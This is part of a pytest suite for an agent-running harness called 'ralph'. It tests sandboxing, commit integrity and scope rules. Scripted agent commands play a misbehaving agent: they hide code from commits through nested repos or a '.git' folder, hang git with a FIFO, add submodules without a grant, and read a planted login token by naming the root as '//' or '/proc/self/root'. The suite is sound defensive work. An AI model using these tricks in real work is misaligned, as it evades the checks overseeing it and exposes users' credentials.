    git(repo, "commit", "-qm", "a folder named ralph")
    script = shutil.which("ralph") or pytest.skip("the ralph script is not on PATH")
    result = subprocess.run(
        [script, "run", "--name", "r"],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=120,
        env=dict(os.environ, **env, OPENAI_API_KEY="canary-key"),
    )
    assert "HIJACKED" not in result.stdout and result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("sandbox", SANDBOX_MODES)
def test_a_repository_the_lap_makes_inside_the_tree_is_a_red_lap(tmp_path: Path, sandbox: str):
    """git would commit it as a gitlink to a commit that exists nowhere, while the checks saw its
    files: code that no commit holds (and `ralph land` would have landed without it)."""
    agent = (
        "mkdir pkg && echo 'X = 1' > pkg/helper.py && git -C pkg init -q && git -C pkg add -A && "
        "git -C pkg -c user.name=a -c user.email=a@b commit -qm own && "
        "echo 'from pkg.helper import X' > calc.py && sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "sandbox": sandbox,
        "checks": [f"{PY} -c 'import calc'"],
        "limits": {"max_laps": 1},
    }
    repo = make_repo(tmp_path / "repo", {"calc.py": "\n"}, config=config, todo=["x"])
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert (
        lap["status"] == "red"
        and "the lap made repositories inside the tree, whose files no commit holds: pkg" in lap["reason"]
    )
    assert git(repo, "rev-parse", "ralph/r") == git(repo, "rev-parse", "refs/ralph/r/base")


def test_a_folder_a_check_leaves_where_its_report_goes_is_no_crash(tmp_path: Path):
    check = {"run": "f=$RALPH_PYTEST_REPORT; mkdir -p $f/inside; test -f done || (touch done; false)", "retries": 1}
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
        "checks": [check],
        "sandbox": "off",
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    result = ralph(repo, "run", "--name", "r")
    assert "internal error" not in result.stderr and result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(
    "item, status", [("Use the library", "red"), ("Add the library (may change: .gitmodules, vendor/lib)", "green")]
)
def test_adding_a_submodule_needs_a_grant_of_gitmodules(tmp_path: Path, item: str, status: str):
    library = make_repo(tmp_path / "library", {"lib.txt": "library\n"})
    agent = (
        f"git -c protocol.file.allow=always submodule add -q {library} vendor/lib && sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "checks": ["true"],
        "limits": {"max_laps": 1},
    }
    repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": f"- [ ] {item}\n"})
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == status, lap["reason"]
    if status == "red":
        assert (
            "never in scope (what runs, installs or configures the code and its checks): .gitmodules (added)"
            in lap["reason"]
        )


@needs_bwrap
def test_a_venv_under_var_tmp_named_by_the_checks_is_there_in_the_sandbox(tmp_path: Path):
    # A clone under /var/tmp (private in the sandbox, so what the checks name is bound back):
    # the venv's folder and its bin/python3, a link inside it, both named. Binding the link again
    # inside the bound folder made bubblewrap fail, and every check with it.
    venv = Path(tempfile.mkdtemp(dir="/var/tmp")) / "venv"
    try:
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
        check = f"{venv}/bin/python3 -c 'print(1)' && test -d {venv}"
        config = {"goal": "g", "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"}}
        config |= {"checks": [check], "sandbox": "required"}
        repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
        result = ralph(repo, "run", "--name", "r")
        assert result.returncode == 0, result.stdout + result.stderr
    finally:
        shutil.rmtree(venv.parent, ignore_errors=True)


def test_a_folder_named_git_cannot_hide_a_module_from_the_commit(tmp_path: Path):
    # git never stages what is in a `.git` folder: a module there would reach the checks in no commit.
    agent = (
        "mkdir -p sub/.git && echo 'OK = 1' > sub/.git/helper.py && "
        "printf 'import sys\\nsys.path.insert(0, \"sub/.git\")\\nimport helper\\n' > app.py && "
        "sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config: dict[str, object] = {"goal": "g", "agent": {"kind": "command", "command": agent}, "limits": {"max_laps": 1}}
    config["checks"] = [{"run": f"{sys.executable} -c 'import app'", "expect_red": True}]  # app.py exits 1
    repo = make_repo(
        tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "app.py": "raise SystemExit(1)\n"}
    )
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert lap["done"] is False and lap["checks"][0]["exit_code"] == 1, lap["reason"]


def test_a_fifo_named_gitignore_does_not_hang_the_commit(tmp_path: Path):
    # git opens every .gitignore it meets: a FIFO there would block it until check_timeout.
    agent = "mkdir sub && mkfifo sub/.gitignore && echo work > notes.txt && sed -i 's/\\[ \\]/[x]/' TODO.md"
    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"]}
    config["limits"] = {"max_laps": 1, "check_timeout": 60}
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    started = time.monotonic()
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0 and time.monotonic() - started < 30, result.stdout + result.stderr
    assert git(repo, "show", "ralph/r:notes.txt") == "work"


@pytest.mark.parametrize("root", ["//", "/proc/self/root", "{tmp}/to-root"])
def test_a_command_naming_the_root_in_disguise_binds_nothing_of_the_machine(tmp_path: Path, root: str):
    """A path named in a command is bound into the sandbox; `//` (POSIX keeps it as written),
    `/proc/self/root` and a link to / are the root under other names, and bound, they showed
    the lap the whole machine (HOME's logins among it) over the sandbox's own /tmp."""
    secret = Path.home() / ".a-login"
    secret.write_text("token")
    (tmp_path / "to-root").symlink_to("/")
    agent = (
        f"# see {root.format(tmp=tmp_path)}\n"
        f"p={str(secret).lstrip('/')} && (cat /$p 2>/dev/null || echo hidden) > seen.txt && "  # (a path named is bound)
        "touch /tmp/x && echo writable >> seen.txt && "
        "sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"], "sandbox": "required"}
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0, result.stdout + result.stderr
    assert git(repo, "show", "ralph/r:seen.txt") == "hidden\nwritable"


@needs_bwrap
def test_each_phase_starts_with_an_empty_tmp_and_home_lap_after_lap(tmp_path: Path):
    """A phase's /tmp and HOME are made anew each time (the folder holding them stays): what a
    lap's agent left there, the next lap's agent never finds."""
    agent = (
        'ls -A /tmp "$HOME" > seen-$RALPH_LAP.txt && echo x > /tmp/left && echo x > "$HOME/left" && '
        "sed -i '0,/- \\[ \\]/s//- [x]/' TODO.md"
    )
    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"], "sandbox": "required"}
    repo = make_repo(tmp_path / "repo", config=config, todo=["a", "b"])
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0, result.stdout + result.stderr
    for lap in (1, 2):
        assert "left" not in git(repo, "show", f"ralph/r:seen-{lap}.txt")


@needs_bwrap
def test_a_phase_finds_tmp_and_home_empty_and_as_made_whatever_the_last_phase_did_to_them(tmp_path: Path):
    """/tmp and HOME stay from one phase to the next only while untouched: one a phase emptied
    again, made open to all, or gave an extended attribute is made anew; an untouched one stays."""
    from ralph.isolation import proc, sandbox

    scratch = tmp_path / "scratch" / "agent"
    look = 'stat -c %a /tmp "$HOME"; ls -A /tmp "$HOME"'
    plants = [
        "touch /tmp/x && rm /tmp/x",
        'chmod 777 /tmp "$HOME"',
        'mkdir "$HOME/.cache"',
        "python3 -c \"import os; os.setxattr('/tmp', 'user.mark', b'1')\"",
        "true",
    ]
    first = sandbox.phase_jail(scratch, tmp_path)
    made = proc.run(look, tmp_path, jail=first).output
    for plant in plants:
        inode = os.stat(scratch / "tmp").st_ino, os.stat(scratch / "tmp").st_ctime_ns
        planted = proc.run(plant, tmp_path, jail=sandbox.phase_jail(scratch, tmp_path))
        assert planted.ok, (plant, planted.output)
        touched = inode != (os.stat(scratch / "tmp").st_ino, os.stat(scratch / "tmp").st_ctime_ns)
        seen = proc.run(look, tmp_path, jail=sandbox.phase_jail(scratch, tmp_path))
        assert seen.output == made, (plant, seen.output)
        assert os.listxattr(scratch / "tmp") == [], plant
        if not touched:  # a phase that left both as made: the same folder the next time
            assert os.stat(scratch / "tmp").st_ino == inode[0]


@needs_bwrap
def test_a_hidden_login_reads_empty_whatever_the_kept_blank_file_became(tmp_path: Path):
    """The empty file a hidden login is replaced with stays from phase to phase (no phase can
    write it); one that is not empty, or not a plain file of its own, is made anew, never shown."""
    from ralph.isolation import proc, sandbox

    login = tmp_path / "home" / ".npmrc"
    login.parent.mkdir()
    login.write_text("//registry.npmjs.org/:_authToken=npm_secret\n")
    scratch, elsewhere = tmp_path / "scratch" / "checks", tmp_path / "elsewhere"
    elsewhere.write_text("not empty\n")
    for plant in ("written", "linked", "hard-linked"):
        scratch.mkdir(parents=True, exist_ok=True)
        (scratch / "blank").unlink(missing_ok=True)
        if plant == "written":
            (scratch / "blank").write_text("not empty\n")
        elif plant == "linked":
            (scratch / "blank").symlink_to(elsewhere)
        else:
            os.link(elsewhere, scratch / "blank")
        jail = sandbox.phase_jail(scratch, tmp_path, keep=(login.parent,), hide=(login,))
        done = proc.run(f"cat {login}; echo end", tmp_path, jail=jail)
        assert done.ok and done.output == "end\n", (plant, done.output)
    assert elsewhere.read_text() == "not empty\n"
